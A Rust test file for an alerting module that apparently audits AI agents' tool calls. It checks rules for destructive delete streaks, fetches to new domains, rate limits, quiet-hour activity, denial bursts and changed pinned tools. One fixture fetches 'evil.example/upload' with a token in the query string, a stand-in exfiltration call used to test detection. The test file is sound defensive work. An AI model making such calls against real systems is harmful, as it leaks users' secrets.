//! Tests of `alerts`: each rule fires on a crafted sequence of records and
//! stays silent on a normal one; state survives a restart; mute and ack.
//! Records go through the real writer, so the chain stays valid.

use super::eval::Config;
use super::*;
use crate::audit::{AuditDecision, AuditRecord, AuditWriter};
use crate::{DataDir, NewServer, Transport};

mod store;

/// 2026-11-20T12:00:00Z.
const NOON: i64 = 1_795_176_000 * 1_000_000;
const SEC: i64 = 1_000_000;

struct Fixture {
    _tmp: tempfile::TempDir,
    store: Store,
    writer: AuditWriter,
    seq: i64,
    /// The time of the next record.
    time: i64,
}

fn fixture() -> Fixture {
    let tmp = tempfile::tempdir().unwrap();
    let store = Store::open(&DataDir::at(tmp.path()).unwrap()).unwrap();
    let writer = AuditWriter::spawn(store.path(), None).unwrap();
    Fixture {
        _tmp: tmp,
        store,
        writer,
        seq: 0,
        time: NOON,
    }
}

fn call(session: &str, tool: &str, arguments: &str) -> AuditRecord {
    AuditRecord {
        client: Some("claude".into()),
        arguments: Some(arguments.into()),
        ..AuditRecord::call(session, "files", tool)
    }
}

impl Fixture {
    /// Stores `record` one second after the previous one; its id.
    fn push(&mut self, mut record: AuditRecord) -> i64 {
        self.seq += 1;
        record.seq = Some(self.seq);
        if record.time == 0 {
            record.time = self.time;
        }
        self.time = record.time + SEC;
        self.writer.submit(record).blocking_recv().unwrap().unwrap();
        self.store
            .conn()
            .query_row("SELECT max(id) FROM audit", [], |r| r.get(0))
            .unwrap()
    }

    fn call(&mut self, session: &str, tool: &str) -> i64 {
        self.push(call(session, tool, "{}"))
    }

    fn calls(&mut self, session: &str, tool: &str, n: usize) -> Vec<i64> {
        (0..n).map(|_| self.call(session, tool)).collect()
    }

    /// Evaluates, in UTC.
    fn eval(&mut self) -> Vec<Alert> {
        let config = Config {
            muted: self.store.alerts_muted().unwrap(),
            quiet: self.store.alerts_quiet_hours().unwrap(),
            burst: self.store.alerts_denial_burst().unwrap(),
            offset: |_| 0,
        };
        self.store.alerts_evaluate_with(&config).unwrap()
    }
}

fn ids(alert: &Alert) -> Vec<i64> {
    alert.records.iter().map(|r| r.id).collect()
}

fn rules(alerts: &[Alert]) -> Vec<AlertRule> {
    alerts.iter().map(|a| a.rule).collect()
}

#[test]
fn three_deletes_in_a_row_from_one_session_alert_once() {
    let mut f = fixture();
    f.call("s", "read_file");
    let deletes = f.calls("s", "delete_file", 3);
    let alerts = f.eval();
    assert_eq!(rules(&alerts), [AlertRule::DestructiveStreak]);
    assert_eq!(ids(&alerts[0]), deletes);
    assert_eq!(alerts[0].session.as_deref(), Some("s"));
    assert_eq!(alerts[0].tool.as_deref(), Some("delete_file"));
    assert!(
        alerts[0].summary.contains("3 destructive calls"),
        "{}",
        alerts[0].summary
    );
    // The same run going on raises nothing more.
    f.call("s", "delete_file");
    assert!(f.eval().is_empty());
}

#[test]
fn deletes_broken_by_a_read_or_spread_over_sessions_stay_silent() {
    let mut f = fixture();
    f.calls("s", "delete_file", 2);
    f.call("s", "read_file");
    f.calls("s", "delete_file", 2);
    // Interleaved sessions: each has two in a row, not three.
    f.call("t", "delete_file");
    f.call("u", "delete_file");
    f.call("t", "delete_file");
    f.call("u", "delete_file");
    assert!(f.eval().is_empty());
    // A third in one of them is three in a row for that session.
    let third = f.call("t", "delete_file");
    let alerts = f.eval();
    assert_eq!(rules(&alerts), [AlertRule::DestructiveStreak]);
    assert_eq!(*ids(&alerts[0]).last().unwrap(), third);
    assert_eq!(alerts[0].session.as_deref(), Some("t"));
}

#[test]
fn a_stored_definition_decides_what_is_destructive() {
    let mut f = fixture();
    f.store
        .add_server(&NewServer {
            name: "files".into(),
            transport: Transport::stdio("x", [""; 0]),
        })
        .unwrap();
    let tidy = r#"{"name":"tidy","annotations":{"destructiveHint":true}}"#;
    f.store
        .record_tools("files", &[("tidy".into(), tidy.into())], true)
        .unwrap();
    let run = f.calls("s", "tidy", 3);
    let alerts = f.eval();
    assert_eq!(rules(&alerts), [AlertRule::DestructiveStreak]);
    assert_eq!(ids(&alerts[0]), run);
}

#[test]
fn a_tool_targeting_a_new_domain_alerts_without_argument_values() {
    let mut f = fixture();
    let get = |url: &str| call("s", "fetch", &format!(r#"{{"url":"{url}"}}"#));
    // The first domain is learned silently; known domains stay silent.
    f.push(get("https://api.github.com/repos/a"));
    f.push(get("https://api.github.com/repos/b"));
    // Another tool's first domain is its own baseline.
    f.push(call(
        "s",
        "download",
        r#"{"src":"https://cdn.example.net/f"}"#,
    ));
    assert!(f.eval().is_empty());
    let evil = f.push(get("https://evil.example/upload?token=hunter2"));
    let alerts = f.eval();
    assert_eq!(rules(&alerts), [AlertRule::NewDomain]);
    assert_eq!(ids(&alerts[0]), [evil]);
    let summary = &alerts[0].summary;
    assert!(
        summary.contains("evil.example") && summary.contains("api.github.com"),
        "{summary}"
    );
    assert!(
        !summary.contains("hunter2") && !summary.contains("upload"),
        "{summary}"
    );
    // Once seen, the domain is known.
    f.push(get("https://evil.example/again"));
    assert!(f.eval().is_empty());
}

fn rate_limited(session: &str) -> AuditRecord {
    AuditRecord {
        decision: AuditDecision::Error,
        rpc_error: Some(r#"{"code":-32000,"message":"upstream returned HTTP 429"}"#.into()),
        is_error: None,
        ..call(session, "search", "{}")
    }
}

#[test]
fn two_rate_limit_errors_in_a_row_alert() {
    let mut f = fixture();
    let a = f.push(rate_limited("s"));
    // A tool result that is an error and says so counts too.
    let b = f.push(AuditRecord {
        is_error: Some(true),
        result: Some(
            r#"{"content":[{"type":"text","text":"API error: 429 Too Many Requests"}],"isError":true}"#
                .into(),
        ),
        ..call("s", "search", "{}")
    });
    let alerts = f.eval();
    assert_eq!(rules(&alerts), [AlertRule::RateLimited]);
    assert_eq!(ids(&alerts[0]), [a, b]);
}

#[test]
fn a_single_rate_limit_error_stays_silent() {
    let mut f = fixture();
    f.push(rate_limited("s"));
    f.call("s", "search");
    f.push(rate_limited("s"));
    // Another session's error is not "in a row" with this one's.
    f.push(rate_limited("t"));
    // A successful result that mentions rate limits is no error.
    f.push(AuditRecord {
        result: Some(r#"{"content":[{"type":"text","text":"the rate limit is 5000/h"}]}"#.into()),
        ..call("s", "search", "{}")
    });
    f.push(rate_limited("s"));
    // Other errors are not rate limits.
    f.push(AuditRecord {
        rpc_error: Some(r#"{"code":-32601,"message":"Method not found"}"#.into()),
        ..rate_limited("s")
    });
    assert!(f.eval().is_empty());
}

#[test]
fn ten_writes_without_a_read_alert() {
    let mut f = fixture();
    let mut run = f.calls("s", "write_file", 6);
    run.extend(f.calls("s", "edit_file", 4));
    let alerts = f.eval();
    assert_eq!(rules(&alerts), [AlertRule::WritesWithoutRead]);
    assert_eq!(ids(&alerts[0]), run);
    assert!(
        alerts[0].summary.contains("write_file ×6, edit_file ×4"),
        "{}",
        alerts[0].summary
    );
}

#[test]
fn writes_with_reads_between_stay_silent() {
    let mut f = fixture();
    f.calls("s", "write_file", 9);
    f.call("s", "read_file");
    f.calls("s", "write_file", 9);
    f.calls("t", "write_file", 5);
    assert!(f.eval().is_empty());
}

#[test]
fn calls_in_quiet_hours_alert_once_per_session_and_night() {
    let mut f = fixture();
    f.store
        .set_alerts_quiet_hours(Some(QuietHours::parse("22:00-07:00").unwrap()))
        .unwrap();
    f.call("s", "read_file"); // noon: outside
    f.time = NOON + 11 * 3600 * SEC; // 23:00
    let late = f.call("s", "read_file");
    f.call("s", "read_file");
    f.time = NOON + 15 * 3600 * SEC; // 03:00, the same night
    f.call("s", "read_file");
    let alerts = f.eval();
    assert_eq!(rules(&alerts), [AlertRule::QuietHours]);
    assert_eq!(ids(&alerts[0]), [late]);
    assert!(alerts[0].summary.contains("23:00"), "{}", alerts[0].summary);
    // The next night alerts again.
    f.time = NOON + 35 * 3600 * SEC; // 23:00 the next day
    assert_eq!(
        rules(&{
            f.call("s", "read_file");
            f.eval()
        }),
        [AlertRule::QuietHours]
    );
}

#[test]
fn quiet_hours_are_off_by_default_and_calls_outside_them_are_silent() {
    let mut f = fixture();
    f.time = NOON + 15 * 3600 * SEC; // 03:00
    f.call("s", "read_file");
    assert!(f.eval().is_empty());
    f.store
        .set_alerts_quiet_hours(Some(QuietHours::parse("22:00-07:00").unwrap()))
        .unwrap();
    f.time = NOON + 20 * 3600 * SEC; // 08:00
    f.calls("s", "read_file", 3);
    assert!(f.eval().is_empty());
}

fn denied(session: &str) -> AuditRecord {
    AuditRecord {
        decision: AuditDecision::Denied,
        reason: Some("the person did not answer in time".into()),
        ..call(session, "send_email", "{}")
    }
}

#[test]
fn a_burst_of_refusals_alerts() {
    let mut f = fixture();
    let mut burst = vec![f.push(denied("s")), f.push(denied("t"))];
    f.call("s", "read_file");
    burst.extend((0..3).map(|_| f.push(denied("s"))));
    let alerts = f.eval();
    assert_eq!(rules(&alerts), [AlertRule::DenialBurst]);
    assert_eq!(ids(&alerts[0]), burst);
    assert_eq!(alerts[0].server.as_deref(), Some("files"));
    assert_eq!(alerts[0].session, None);
}

#[test]
fn refusals_spread_out_stay_silent() {
    let mut f = fixture();
    for _ in 0..4 {
        f.push(denied("s"));
    }
    f.time += 61 * SEC;
    f.push(denied("s"));
    assert!(f.eval().is_empty());
    // A configured burst counts differently.
    f.store
        .set_alerts_denial_burst(DenialBurst::parse("2/10").unwrap())
        .unwrap();
    f.push(denied("s"));
    assert_eq!(rules(&f.eval()), [AlertRule::DenialBurst]);
}

fn refusal(method: &str, tool: Option<&str>) -> AuditRecord {
    AuditRecord {
        method: Some(method.into()),
        tool: tool.map(Into::into),
        arguments: None,
        decision: AuditDecision::Denied,
        reason: Some("its description changed since it was pinned".into()),
        ..call("s", "x", "{}")
    }
}

#[test]
fn a_refused_changed_tool_or_package_alerts() {
    // The pinning code writes the same method.
    assert_eq!(crate::pins::TOOL_CHANGED_METHOD, TOOL_CHANGED_METHOD);
    let mut f = fixture();
    // Other Gatehouse records stay silent.
    f.push(AuditRecord {
        method: Some("tools/list".into()),
        tool: None,
        ..call("s", "x", "{}")
    });
    assert!(f.eval().is_empty());
    let changed = f.push(refusal(TOOL_CHANGED_METHOD, Some("read_file")));
    let package = f.push(refusal(CHECKSUM_MISMATCH_METHOD, None));
    let alerts = f.eval();
    assert_eq!(
        rules(&alerts),
        [AlertRule::PinMismatch, AlertRule::PinMismatch]
    );
    assert_eq!(
        (ids(&alerts[0]), ids(&alerts[1])),
        (vec![changed], vec![package])
    );
    assert!(
        alerts[0].summary.contains("'read_file'"),
        "{}",
        alerts[0].summary
    );
    assert!(
        alerts[1].summary.contains("checksum"),
        "{}",
        alerts[1].summary
    );
}

#[test]
fn tools_refused_together_make_one_alert_and_no_denial_burst() {
    let mut f = fixture();
    let names = ["a", "b", "c", "d", "e", "f"];
    let refused: Vec<i64> = names
        .iter()
        .map(|n| f.push(refusal(TOOL_CHANGED_METHOD, Some(n))))
        .collect();
    let alerts = f.eval();
    assert_eq!(rules(&alerts), [AlertRule::PinMismatch]);
    assert_eq!(ids(&alerts[0]), refused);
    assert!(
        alerts[0].summary.contains("refused 6 tools"),
        "{}",
        alerts[0].summary
    );
    assert!(
        alerts[0].summary.contains("a, b, c, d, e, f"),
        "{}",
        alerts[0].summary
    );
}
